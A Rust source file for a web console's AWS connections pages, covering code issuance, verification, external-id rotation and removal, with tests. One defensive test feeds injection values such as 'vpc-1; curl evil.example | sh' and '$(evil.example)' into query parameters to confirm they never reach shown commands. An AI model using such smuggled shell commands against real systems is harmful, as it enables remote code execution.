//! `/o/{login}/connections`: which AWS accounts are connected; one of them with what its stack is installed with, its
//! verification line by line, its rotation.

mod hand_over;
mod list;
mod parameters;
mod pasted;

pub(crate) use hand_over::outputs;
pub(crate) use list::list;

use super::{Badge, FailureView, policy};
use crate::admin_action::AdminAction;
use crate::error::PageError;
use crate::format::HumanTime;
use crate::request_context::AccountSession;
use crate::state::Console;
use crate::view;
use crate::view::{Frame, Tab};
use axum::extract::{Path, Query, State};
use axum::response::{IntoResponse as _, Redirect, Response};
use secrecy::{ExposeSecret as _, SecretString};
use serde::{Deserialize, Serialize};
use sprinters_core::effect::Effect;
use sprinters_services::connections;
use sprinters_store::{AuditEntry, Connection, ConnectionState, in_change};

#[derive(Debug, Serialize)]
struct FactView {
    name: String,
    value: String,
}

#[derive(Debug, Serialize)]
struct UnsetView {
    parameter: &'static str,
    setting: &'static str,
}

#[derive(Debug, Serialize)]
struct CheckView {
    what: String,
    word: &'static str,
    tone: &'static str,
    must_be_refused: bool,
    answer: String,
}

#[derive(Debug, Default, Serialize)]
struct ConnectionView {
    path: String,
    back: String,
    name: String,
    done: Option<&'static str>,
    badge: Option<Badge>,
    failure: Option<FailureView>,
    waiting: bool,
    /// Where to go on once it works.
    workflow: Option<String>,
    link: Option<String>,
    link_problem: Option<String>,
    /// Parameters that only the operator can know, and settings do not say.
    unset: Vec<UnsetView>,
    parameters: Vec<FactView>,
    deploy: Option<String>,
    /// The command leaves the VPC to be filled in.
    names_no_vpc: bool,
    stacks: String,
    pasted: String,
    problem: Option<String>,
    code: Option<String>,
    code_expires: Option<HumanTime>,
    checks: Vec<CheckView>,
    checked: Option<HumanTime>,
    facts: Vec<FactView>,
    template: Option<&'static str>,
    update: Option<String>,
    rotation: Vec<FactView>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(default)]
pub(crate) struct QueryParams {
    done: String,
}

/// What an answer to a form shows beside the connection.
#[derive(Debug, Default)]
struct Shown {
    /// The one-time code, where it was made for this answer.
    code: Option<SecretString>,
    done: Option<&'static str>,
    /// What was pasted, and what is wrong with it.
    pasted: String,
    problem: Option<String>,
}

#[derive(Debug, Deserialize)]
pub(crate) struct PathParams {
    id: i64,
}

pub(super) fn badge(connection: &Connection) -> Badge {
    match connection.state {
        ConnectionState::Pending if connection.outputs.is_some() => Badge::new("being verified", "run"),
        ConnectionState::Pending => Badge::new("waits for its stack", "wait"),
        ConnectionState::Working => Badge::new("working", "ok"),
        ConnectionState::Broken => Badge::new("broken", "bad"),
        ConnectionState::Removed => Badge::new("disconnected", ""),
    }
}

pub(super) fn name(connection: &Connection) -> String {
    match &connection.outputs {
        Some(outputs) => format!("{} in {}", outputs.account_id, connection.region),
        None => format!("New connection in {}", connection.region),
    }
}

fn template(connection: &Connection) -> Option<&'static str> {
    let installed = connection.outputs.as_ref()?.template_digest.as_str();
    Some(if Some(installed) == policy::digest() { "newest" } else { "another version" })
}

async fn find(console: &Console, seat: &AccountSession, id: i64) -> Result<Connection, PageError> {
    console.store().connection_visible_to(seat.visible_to(), id).await?.ok_or(PageError::NotFound)
}

/// `GET /o/{login}/connections/{id}`.
pub(crate) async fn show(
    State(console): State<Console>,
    seat: AccountSession,
    Path(place): Path<PathParams>,
    Query(asked): Query<QueryParams>,
) -> Result<Response, PageError> {
    let connection = find(&console, &seat, place.id).await?;
    page(&console, &seat, &connection, Shown { done: done(&asked.done), ..Shown::default() }).await
}

/// The page of a connection.
async fn page(
    console: &Console,
    seat: &AccountSession,
    connection: &Connection,
    shown: Shown,
) -> Result<Response, PageError> {
    let Shown { code, done, pasted, problem } = shown;
    let now = seat.visit.now;
    let path = seat.path(&format!("connections/{}", connection.id));
    let is_admin = seat.membership.is_admin;
    let mut view = ConnectionView {
        back: seat.path("connections"),
        name: name(connection),
        done,
        badge: Some(badge(connection)),
        failure: connection.failure.as_ref().map(FailureView::of),
        waiting: connection.outputs.is_none() || connection.state == ConnectionState::Pending,
        workflow: (connection.state == ConnectionState::Working).then(|| seat.path("setup/workflow")),
        checks: connection.checks.iter().map(of_check).collect(),
        checked: connection.checked_at.map(|at| HumanTime::new(at, now)),
        template: template(connection).map(|which| match which {
            "newest" => "The stack was made from the newest template, to the byte.",
            // One of two words of ours.
            _ => "The stack was made from another version of the template.",
        }),
        update: policy::update_link(connection),
        stacks: hand_over::stacks_link(connection.region),
        pasted,
        problem,
        path,
        ..ConnectionView::default()
    };
    if let Some(outputs) = &connection.outputs {
        let fact = |name: &str, value: &str| FactView { name: name.to_owned(), value: value.to_owned() };
        view.facts = vec![
            fact("AWS account", &outputs.account_id),
            fact("Region", connection.region.name()),
            fact("Role", &outputs.role_arn),
            fact(
                "Launch template",
                &format!("{}, version {}", outputs.launch_template_id, outputs.launch_template_version),
            ),
            fact("Security group", &outputs.security_group_id),
            fact("VPC", &outputs.vpc_id),
            fact(
                "Subnets",
                &if outputs.subnet_ids.is_empty() {
                    "the default subnet of each zone".to_owned()
                } else {
                    outputs.subnet_ids.join(", ")
                },
            ),
            fact("Deployment", &connection.deployment_id),
            fact("Template", &outputs.template_digest),
        ];
    } else if is_admin {
        parameters::fill_in(console, connection, &mut view).await?;
        view.code_expires = connection.code_expires_at.map(|at| HumanTime::new(at, now));
        if let Some(code) = code {
            view.code = view::command(&[
                "sprinters-iac",
                "connect",
                "--control-plane",
                &seat.visit.base,
                "--region",
                connection.region.name(),
                "--code",
                code.expose_secret(),
            ]);
            view.code_expires = Some(HumanTime::new(now.after(connections::CODE_LASTS), now));
        }
    }
    if is_admin && let Some(next) = console.store().external_id(connection, true).await? {
        let current = console.store().external_id(connection, false).await?;
        let parameter = |name: &str, value: &SecretString| FactView {
            name: name.to_owned(),
            value: value.expose_secret().to_owned(),
        };
        view.rotation =
            [Some(parameter("ExternalId", &next)), current.map(|current| parameter("PreviousExternalId", &current))]
                .into_iter()
                .flatten()
                .collect();
    }
    // The page may be the answer to a form: what it follows is the connection all the same.
    let frame = Frame::seat(seat, Some(Tab::Connections), view.name.clone());
    let frame = frame.at(view.path.clone()).live(seat.path("events"));
    Ok(view::page(&frame, "connection.html", view))
}

fn of_check(check: &sprinters_core::verification::ConnectionCheck) -> CheckView {
    let (word, tone) = match (check.passed, check.must_be_refused) {
        (true, false) => ("allowed", "ok"),
        (true, true) => ("refused", "ok"),
        (false, false) => ("not allowed", "bad"),
        (false, true) => ("not refused", "bad"),
    };
    CheckView {
        what: check.what.clone(),
        word,
        tone,
        must_be_refused: check.must_be_refused,
        answer: check.answer.clone(),
    }
}

fn done(word: &str) -> Option<&'static str> {
    match word {
        "begin" => Some("Connection started. This page keeps its address: you can leave and come back."),
        "verify" => Some("It is being verified; the lines below follow."),
        "rotate" => Some("The stack can be updated now. Launches go on with the old external id until then."),
        "finish" => Some("It is tried with the new external id. If the stack has it, the old one is forgotten."),
        // Part of an address, not an enum of ours.
        _ => None,
    }
}

/// `POST …/code`.
pub(crate) async fn code(
    State(console): State<Console>,
    AdminAction { seat, id }: AdminAction,
) -> Result<Response, PageError> {
    let connection = find(&console, &seat, id).await?;
    if connection.outputs.is_some() {
        return Err(PageError::Refused("The stack's outputs are here already.".to_owned()));
    }
    let code = connections::new_code(console.store(), &connection, seat.visit.now).await.map_err(refused)?;
    note(&console, &seat, "connection.code", &connection, "").await?;
    page(&console, &seat, &connection, Shown { code: Some(code), ..Shown::default() }).await
}

/// `POST …/verify`.
pub(crate) async fn verify(
    State(console): State<Console>,
    AdminAction { seat, id }: AdminAction,
) -> Result<Response, PageError> {
    check(&console, &seat, id, "connection.verify", "verify").await
}

/// `POST …/rotate`.
pub(crate) async fn rotate(
    State(console): State<Console>,
    AdminAction { seat, id }: AdminAction,
) -> Result<Response, PageError> {
    let connection = find(&console, &seat, id).await?;
    if connection.outputs.is_none() {
        return Err(PageError::Refused("The stack is not there yet; its external id is new anyway.".to_owned()));
    }
    connections::rotate(console.store(), &connection, seat.visit.now).await.map_err(refused)?;
    note(&console, &seat, "connection.rotate", &connection, "a new external id was drawn").await?;
    Ok(Redirect::to(&format!("{}?done=rotate", seat.path(&format!("connections/{id}")))).into_response())
}

/// `POST …/rotate/finish`.
pub(crate) async fn finish(
    State(console): State<Console>,
    AdminAction { seat, id }: AdminAction,
) -> Result<Response, PageError> {
    check(&console, &seat, id, "connection.rotate-finish", "finish").await
}

async fn check(
    console: &Console,
    seat: &AccountSession,
    id: i64,
    action: &str,
    word: &str,
) -> Result<Response, PageError> {
    let connection = find(console, seat, id).await?;
    if connection.outputs.is_none() {
        return Err(PageError::Refused("There is nothing to verify before the stack's outputs are here.".to_owned()));
    }
    let effect = Effect::CheckConnection { account: connection.account_id, connection: connection.id };
    console.store().intend(&effect.row(connection.account_id, seat.visit.now)).await?;
    console.wake();
    note(console, seat, action, &connection, "").await?;
    Ok(Redirect::to(&format!("{}?done={word}", seat.path(&format!("connections/{id}")))).into_response())
}

/// `POST …/remove`.
pub(crate) async fn remove(
    State(console): State<Console>,
    AdminAction { seat, id }: AdminAction,
) -> Result<Response, PageError> {
    let connection = find(&console, &seat, id).await?;
    in_change!(console.store(), change => change.remove_connection(connection.id).await)?;
    note(&console, &seat, "connection.remove", &connection, "").await?;
    Ok(Redirect::to(&seat.path("connections")).into_response())
}

pub(super) fn refused(error: connections::ConnectError) -> PageError {
    match error {
        connections::ConnectError::Store(error) => PageError::Store(error),
        error @ (connections::ConnectError::TooMany
        | connections::ConnectError::Code
        | connections::ConnectError::Missing(_)
        | connections::ConnectError::Output { .. }
        | connections::ConnectError::Region { .. }
        | connections::ConnectError::Partition(_)
        | connections::ConnectError::Connected { .. }
        | connections::ConnectError::Deployment) => PageError::Refused(error.to_string()),
    }
}

pub(super) async fn note(
    console: &Console,
    seat: &AccountSession,
    action: &str,
    connection: &Connection,
    detail: &str,
) -> Result<(), PageError> {
    let subject = format!("connection {}, {}", connection.id, name(connection));
    let entry = AuditEntry {
        account: seat.membership.account,
        person: None,
        actor: "",
        action,
        subject: &subject,
        detail,
        address: "",
    };
    super::note(console, seat, &entry).await
}

#[cfg(test)]
mod tests {
    use crate::harness::World;

    #[tokio::test]
    async fn each_state_of_a_connection_is_shown() {
        let empty = World::new().await;
        assert!(empty.text("/o/acme/connections").await.contains("No AWS accounts connected"));
        let world = World::with_samples().await;
        let page = world.text("/o/acme/connections").await;
        for words in ["working", "broken", "waits for its stack", "111122223333"] {
            assert!(page.contains(words), "{words}");
        }
        let working = world.text("/o/acme/connections/1").await;
        assert!(working.contains("Assume the role with another external id") && working.contains("refused"));
        let broken = world.text("/o/acme/connections/2").await;
        assert!(broken.contains("External ID mismatch"));
        let waiting = world.text("/o/acme/connections/3").await.replace("&#x27;", "'");
        let command =
            "sprinters-iac deploy --region eu-west-1 --param 'ExternalId=sample-external-id-of-this-connection'";
        assert!(waiting.contains(command), "{waiting}");
    }

    /// What is told to be copied or followed: commands, and links to elsewhere.
    fn advice(page: &str) -> String {
        let commands = page.split("<pre").skip(1).filter_map(|rest| rest.split("</pre>").next());
        let links = page.split("href=\"http").skip(1).filter_map(|rest| rest.split('"').next());
        commands.chain(links).collect::<Vec<_>>().join("\n")
    }

    #[tokio::test]
    async fn nothing_of_a_link_stands_in_what_people_are_told_to_run_or_follow() {
        let world = World::with_samples().await;
        let hostile = ["vpc-1; curl evil.example | sh", "m7i.*$(evil.example)", "`evil.example`", "'\nevil.example\n'"];
        let names =
            ["vpc", "subnets", "types", "region", "code", "done", "label", "repository", "state", "name", "return_to"];
        let pages = [
            "connections/1",
            "connections/2",
            "connections/3",
            "connections",
            "setup/connect",
            "setup/workflow",
            "labels",
            "settings",
            "settings/tokens",
            "jobs",
            "runners",
        ];
        for value in hostile {
            let query: Vec<String> =
                names.iter().map(|name| format!("{name}={}", crate::request_context::encode(value))).collect();
            for page in pages {
                let path = format!("/o/acme/{page}?{}", query.join("&"));
                let shown = advice(&world.get(&path).await.text().await);
                assert!(!shown.contains("evil.example"), "{path}: {shown}");
            }
        }
    }

    #[tokio::test]
    async fn a_command_is_one_for_the_shell_as_well() {
        let world = World::new().await;
        let fields = [("region", "eu-central-1"), ("vpc", "vpc-0123456789abcdef0"), ("types", "m7i.*")];
        assert_eq!(world.post("/o/acme/setup/connect", &fields).await.status(), 303);
        for path in ["/o/acme/connections/1", "/o/acme/connections/1?vpc=vpc-1&types=t3.micro"] {
            let page = world.text(path).await.replace("&#x27;", "'");
            let command = page.split("<pre id=\"deploy\"").nth(1).unwrap().split('>').nth(1).unwrap();
            let words = shlex::split(command.split('<').next().unwrap()).unwrap();
            let said: Vec<&str> = words.iter().filter_map(|word| word.strip_prefix("AllowedInstanceTypes=")).collect();
            assert_eq!(said, ["m7i.*"], "what was filled in, and not what a link says");
            assert!(
                command.contains("'AllowedInstanceTypes=m7i.*'"),
                "no shell takes it for names of files: {command}"
            );
        }
    }

    #[tokio::test]
    async fn the_external_id_is_for_admins_and_rotation_shows_both() {
        let world = World::with_samples().await;
        let member = world.as_member();
        assert!(!member.text("/o/acme/connections/3").await.contains("ExternalId="));
        assert_eq!(member.post("/o/acme/connections/1/rotate", &[]).await.status(), 403);
        assert_eq!(world.post("/o/acme/connections/1/rotate", &[]).await.status(), 303);
        let page = world.text("/o/acme/connections/1").await;
        assert!(page.contains("PreviousExternalId"));
        assert_eq!(world.post("/o/acme/connections/1/rotate/finish", &[]).await.status(), 303);
        assert_eq!(world.intended("check-connection").await, 1);
    }

    #[tokio::test]
    async fn a_connection_of_somebody_else_is_not_there() {
        let world = World::with_samples().await;
        assert_eq!(world.get("/o/acme/connections/4").await.status(), 404);
        for action in ["verify", "rotate", "rotate/finish", "remove", "code", "outputs"] {
            assert_eq!(world.post(&format!("/o/acme/connections/4/{action}"), &[]).await.status(), 404, "{action}");
        }
    }

    #[tokio::test]
    async fn disconnected_is_gone_from_the_list() {
        let world = World::with_samples().await;
        assert_eq!(world.post("/o/acme/connections/2/remove", &[]).await.status(), 303);
        assert!(!world.text("/o/acme/connections").await.contains("broken"));
    }
}
